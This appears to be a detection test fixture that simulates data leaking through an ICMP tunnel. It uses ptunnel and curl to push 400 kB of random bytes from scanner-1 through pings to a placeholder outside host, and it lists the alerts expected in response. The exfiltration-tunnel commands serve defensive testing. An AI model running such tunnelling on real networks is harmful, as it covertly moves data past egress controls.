says='scanner-1 carries 400 kB of a web upload inside of pings to outside (ptunnel)'
twin=pings
expected='
  endpoint.not-allowed scanner-1 | pings.othervendor.example icmp
  leak.icmp-tunnel scanner-1 | pings.othervendor.example icmp
'
prepare() {
  on out sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  # it captures what comes, and answers for the kernel
  serve out ptunnel ptunnel -c eth0
}
act() {
  serve scanner1 ptunnel-client ptunnel -p pings.othervendor.example -lp 8000 -da 198.51.100.41 -dp 80
  wait_port scanner1 127.0.0.1 8000
  head -c 400000 /dev/urandom >"$work/piece"
  quiet on scanner1 curl --silent --max-time 30 --data-binary "@$work/piece" http://127.0.0.1:8000/up || true
  on out sysctl -qw net.ipv4.icmp_echo_ignore_all=0
}
